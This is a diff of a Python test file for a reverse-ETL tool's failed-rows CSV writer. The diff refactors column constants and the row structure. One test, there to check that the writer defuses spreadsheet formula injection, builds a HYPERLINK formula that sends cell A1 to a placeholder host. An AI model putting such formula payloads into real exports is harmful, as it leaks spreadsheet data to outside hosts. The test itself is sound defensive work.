@@ -13,11 +13,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from reverse_etl.changeset.failed_rows_csv import CSV_HEADER, as_it_was, harmless, write_failed_rows
-from reverse_etl.report import Counts, FailedRow, Outcome, RunReport, Status
+from reverse_etl.changeset.failed_rows_csv import as_it_was, harmless, write_failed_rows
+from reverse_etl.report import FAILED_ROW_COLUMNS, Counts, FailedRow, Outcome, Reason, RunReport, Status
 
 AT = datetime(2026, 1, 5, 1, 30, tzinfo=UTC)
-ROW = FailedRow(2, "rows", "anna@example.com", "check", "email_valid", "email", "column `email` is not valid.")
+ROW = FailedRow(2, "rows", "anna@example.com", "check", Reason("email_valid", "email", "column `email` is not valid."))
 NUMBERS = st.integers(0, 10_000)
 COUNTS = st.builds(Counts, NUMBERS, NUMBERS, NUMBERS, NUMBERS, NUMBERS, NUMBERS)
 
@@ -80,13 +80,13 @@ def test_a_report_as_json_has_the_fixed_keys() -> None:
 
 def test_the_csv_has_the_fixed_columns(tmp_path: Path) -> None:
     """Header, rows in order, quoting as CSV has it; folders are made."""
-    awkward = FailedRow(3, "relationships", 'a,"b"\nc', "customerio", "invalid", "", "no")
+    awkward = FailedRow(3, "relationships", 'a,"b"\nc', "customerio", Reason("invalid", "", "no"))
     path = tmp_path / "new" / "failed.csv"
     assert 2 == write_failed_rows(path, iter([ROW, awkward]))
     with path.open(newline="") as file:
         found = list(csv.reader(file))
     header = ["row_number", "query", "identifier", "stage", "reason", "field", "message", "attempt"]
-    assert header == found[0] == list(CSV_HEADER)
+    assert header == found[0] == list(FAILED_ROW_COLUMNS)
     told = ["2", "rows", "anna@example.com", "check", "email_valid", "email", "column `email` is not valid.", "1"]
     assert told == found[1]
     assert 'a,"b"\nc' == found[2][2]
@@ -96,10 +96,10 @@ def test_the_csv_has_the_fixed_columns(tmp_path: Path) -> None:
 def test_no_cell_runs_in_a_spreadsheet(sign: str, tmp_path: Path) -> None:
     """Whatever column it stands in: an apostrophe makes it text."""
     cell = f'{sign}HYPERLINK("http://x.invalid/?"&A1,"open")'
-    write_failed_rows(tmp_path / "failed.csv", [FailedRow(1, cell, cell, cell, cell, cell, cell)])
+    write_failed_rows(tmp_path / "failed.csv", [FailedRow(1, cell, cell, cell, Reason(cell, cell, cell))])
     with (tmp_path / "failed.csv").open(newline="") as file:
         (row,) = csv.DictReader(file)
-    assert {"row_number": "1", "attempt": "1", **dict.fromkeys(list(CSV_HEADER)[1:-1], f"'{cell}")} == row
+    assert {"row_number": "1", "attempt": "1", **dict.fromkeys(list(FAILED_ROW_COLUMNS)[1:-1], f"'{cell}")} == row
 
 
 @given(st.text(alphabet="'=+-@;\t\r\na,\"1", max_size=8))
